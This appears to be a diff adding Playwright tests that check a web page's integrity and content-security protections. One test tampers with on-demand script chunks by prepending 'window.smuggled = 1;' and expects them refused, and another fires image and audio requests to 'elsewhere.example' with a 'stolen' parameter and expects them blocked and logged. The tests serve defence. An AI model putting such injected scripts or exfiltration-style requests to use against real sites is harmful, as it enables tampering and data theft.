@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs'
+import path from 'node:path'
 import type { Frame, Request } from 'playwright-core'
 import type { Chromium } from '../../browser/chromium/chromium.ts'
 import { type FramingSite, openFramingSite } from '../framing-site.ts'
@@ -23,6 +25,18 @@ test.afterAll(async () => {
   await bench?.close()
   await foreign?.close()
 })
+
+/** Address of a page that has a sheet, and its scripts that the HTML does not name; the background's among them. */
+function partsOnDemand(): [string, string[]] {
+  const { paths, html, files } = Object.values(pages).find(({ files }) =>
+    files.some((file) => file.includes('.sheet-')),
+  ) as (typeof pages)[string]
+  const named = readFileSync(path.resolve('dist', html), 'utf8')
+  const parts = [...files, ...runtime.files].filter(
+    (file) => file.endsWith('.js') && !named.includes(`="/${file}"`),
+  )
+  return [paths[0] as string, parts]
+}
 
 /** What a foreign site sees when it frames the path. */
 async function framed(path: string | undefined): Promise<string> {
@@ -85,6 +99,46 @@ test.describe('a page', () => {
       await tab.probe.settled()
       expect(await tab.evaluate('window.smuggled')).toBeUndefined()
       expect(tab.problems.map(({ text }) => text).join()).toContain('integrity')
+    }))
+
+  test('a page runs no part on demand that somebody altered on the way', () =>
+    bench.visit({ name: 'altered-parts' }, async ({ tab, site }) => {
+      const [address, files] = partsOnDemand()
+      await tab.page.route(
+        (url) => files.includes(url.pathname.slice(1)),
+        async (route) => {
+          const response = await route.fetch()
+          await route.fulfill({ response, body: `window.smuggled = 1;${await response.text()}` })
+        },
+      )
+      await tab.open(`${site.origin}${address}`)
+      await tab.probe.settled()
+      for (const file of files) {
+        const end = await tab.evaluate(`import('/${file}').then(() => 'ran', () => 'refused')`)
+        expect([file, end]).toEqual([file, 'refused'])
+      }
+      expect(await tab.evaluate('window.smuggled')).toBeUndefined()
+      expect(tab.problems.map(({ text }) => text).join()).toContain('integrity')
+    }))
+
+  test('a page loads no picture or sound from a host that is not named, and logs it', () =>
+    bench.visit({ name: 'strange-pictures' }, async ({ tab, site }) => {
+      await tab.open(`${site.origin}${page?.path}`)
+      await tab.probe.hydrated(8000)
+      const asked: string[] = []
+      await tab.page.route('https://elsewhere.example/**', (route) => {
+        asked.push(route.request().url())
+        return route.abort()
+      })
+      await tab.evaluate(`new Promise((done) => setTimeout(() => {
+        new Image().src = 'https://elsewhere.example/a.png?stolen=1'
+        new Audio('https://elsewhere.example/a.mp3?stolen=1').load()
+        setTimeout(done, 0)
+      }))`)
+      const logged = () => tab.evaluate<string>(`localStorage.getItem('globalCatchErrors') ?? ''`)
+      await expect.poll(logged).toContain('img-src https://elsewhere.example"')
+      await expect.poll(logged).toContain('media-src https://elsewhere.example"')
+      expect(asked).toEqual([])
     }))
 
   for (const status of [302, 307, 308]) {
